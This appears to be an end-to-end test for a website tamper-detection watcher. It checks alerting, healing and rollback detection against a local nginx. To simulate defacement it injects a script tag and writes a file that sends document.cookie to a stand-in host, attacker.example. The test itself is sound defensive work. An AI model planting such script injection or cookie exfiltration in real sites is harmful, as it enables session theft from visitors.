/**
 * End to end: a sealed site served by a real nginx on 127.0.0.1, watched with the
 * real `verifySite`; tampering raises one alert with the right files, restoring heals,
 * and an older (validly signed) build is caught as a rollback.
 */
import { chmod, cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startNginx } from '../publish/peers.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type AlertPayload,
  createShellCommandRunner,
  createSiteVerifier,
  createWatcher,
  type WatchEvent,
} from '../../src/watch/index.js';
import { createManualClock } from './helpers.js';
import { buildSealedSite, fixtureSigner, writeOutputFiles } from './site-fixture.js';

const signer = fixtureSigner;
const buildSite = buildSealedSite;
const writeSite = writeOutputFiles;

async function makeWorldReadable(dir: string): Promise<void> {
  await chmod(dir, 0o755);
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const abs = join(dir, entry.name);
    if (entry.isDirectory()) await makeWorldReadable(abs);
    else await chmod(abs, 0o644);
  }
}

describe('stele watch against a real nginx', () => {
  let prefix: string;
  let root: string;
  let pristine: string;
  let older: string;
  let alertsDir: string;
  let nginx: Awaited<ReturnType<typeof startNginx>> | undefined;
  let base: string;

  beforeAll(async () => {
    prefix = await mkdtemp(join(tmpdir(), 'stele-watch-nginx-'));
    root = join(prefix, 'www');
    pristine = join(prefix, 'pristine');
    older = join(prefix, 'older');
    alertsDir = join(prefix, 'alerts');
    await writeSite(pristine, buildSite(2, 'Reports 2025'));
    await writeSite(older, buildSite(1, 'Reports 2024'));
    await cp(pristine, root, { recursive: true });
    for (const d of ['logs', 'tmp', 'alerts']) await mkdir(join(prefix, d), { recursive: true });
    await makeWorldReadable(prefix);
    nginx = await startNginx(prefix, root, { types: 'text/html html; text/css css; application/javascript js; application/json json;' });
    base = nginx.url;
  }, 30_000);

  afterAll(async () => {
    await nginx?.stop();
    if (prefix) await rm(prefix, { recursive: true, force: true });
  });

  it('genuine → tampered (one alert, right files) → healed → rollback', async () => {
    const script = join(prefix, 'alert.sh');
    await writeFile(script, '#!/bin/sh\nn=$(ls "$ALERTS" | wc -l)\ncat > "$ALERTS/$n-$STELE_EVENT.json"\n', {
      mode: 0o755,
    });
    const clock = createManualClock('2025-03-02T00:00:00.000Z');
    const statePath = join(prefix, 'state', 'watch.json');
    const events: WatchEvent[] = [];
    const make = () =>
      createWatcher({
        mirrors: [base],
        verify: createSiteVerifier({ trustStoreDir: false }),
        publicKey: signer.publicKeyFile,
        statePath,
        now: clock.now,
        sleep: clock.sleep,
        alertCommand: `"${script}"`,
        runCommand: createShellCommandRunner({ baseEnv: { ...process.env, ALERTS: alertsDir } }),
        onEvent: (e) => events.push(e),
      });
    const alerts = async (): Promise<AlertPayload[]> => {
      const names = (await readdir(alertsDir)).sort((a, b) => Number.parseInt(a, 10) - Number.parseInt(b, 10));
      return Promise.all(names.map(async (n) => JSON.parse(await readFile(join(alertsDir, n), 'utf8'))));
    };
    const watcher = make();

    const first = await watcher.checkOnce();
    expect(first).toHaveLength(1);
    expect(first[0]).toMatchObject({ type: 'check', status: 'genuine', manifestVersion: 2 });

    // Deface: inject a script into the home page, plant it, delete a page.
    const index = join(root, 'index.html');
    const html = await readFile(index, 'utf8');
    await writeFile(index, html.replace('<h1>', '<script src="evil.js"></script><h1>'), { mode: 0o644 });
    await writeFile(join(root, 'evil.js'), 'fetch("https://attacker.example/?c="+document.cookie)\n', { mode: 0o644 });
    await rm(join(root, 'about', 'index.html'));

    clock.advance(300_000);
    const tampered = await watcher.checkOnce();
    expect(tampered.map((e) => e.type)).toEqual(['check', 'incident-opened', 'alert-delivered']);
    let sent = await alerts();
    expect(sent).toHaveLength(1);
    expect(sent[0]).toMatchObject({ event: 'incident-opened', mirror: base, category: 'tampered' });
    expect(sent[0].files).toEqual({ modified: ['index.html'], missing: ['about/index.html'], added: ['evil.js'] });

    // Still defaced, and a restart in between: no second alert.
    clock.advance(300_000);
    expect((await make().checkOnce()).map((e) => e.type)).toEqual(['check']);
    expect(await alerts()).toHaveLength(1);

    // Restore the genuine build.
    await rm(root, { recursive: true, force: true });
    await cp(pristine, root, { recursive: true });
    await makeWorldReadable(root);
    clock.advance(300_000);
    const healed = await watcher.checkOnce();
    expect(healed.map((e) => e.type)).toEqual(['check', 'incident-healed', 'alert-delivered']);
    sent = await alerts();
    expect(sent).toHaveLength(2);
    expect(sent[1]).toMatchObject({ event: 'incident-healed', incidentId: sent[0].incidentId, durationMs: 600_000 });
    expect(sent[1].files.added).toEqual(['evil.js']);

    // An attacker serves the older, validly signed build: the persisted highest version catches it.
    await rm(root, { recursive: true, force: true });
    await cp(older, root, { recursive: true });
    await makeWorldReadable(root);
    clock.advance(300_000);
    const rollback = await make().checkOnce();
    const opened = rollback.find((e) => e.type === 'incident-opened');
    expect(opened?.type === 'incident-opened' && opened.payload.kinds).toEqual(['rollback']);
    expect(JSON.parse(await readFile(statePath, 'utf8')).mirrors[base].highestVersion).toBe(2);
  }, 60_000);
});
